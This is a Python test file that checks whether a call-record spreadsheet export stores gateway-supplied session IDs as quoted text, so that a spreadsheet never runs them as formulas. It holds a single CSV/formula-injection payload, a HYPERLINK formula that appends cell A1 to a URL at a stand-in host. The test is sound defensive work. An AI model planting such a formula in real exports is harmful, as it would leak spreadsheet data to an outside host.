"""Exports carry what gateways and operators typed as text: a spreadsheet
opening one never runs a formula from it."""

import zipfile

from openpyxl import load_workbook

from tests.e2e.test_billing_rules import MOBILE, Call, card, granted

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'


def formulas(path):
    """The formula elements in a workbook's sheets, as its XML holds them."""
    with zipfile.ZipFile(path) as book:
        return [name for name in book.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)]


def test_a_gateways_session_id_is_exported_as_text_not_a_formula(stack_ready, cisco, tmp_path):
    number = card(stack_ready)
    call = Call(cisco, number, conf="h323-conf-id=" + HOSTILE)
    granted(call.access(MOBILE))
    call.sessions["originate"] = HOSTILE
    call.talk(seconds=30)
    out = tmp_path / "cdrs.xlsx"
    r = stack_ready.kondge("cdrs", "export", "--card", number, "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert formulas(out) == []
    sheet = load_workbook(out)["cdrs"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == HOSTILE]
    assert len(cells) == 2                                     # the call's id and the leg's
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
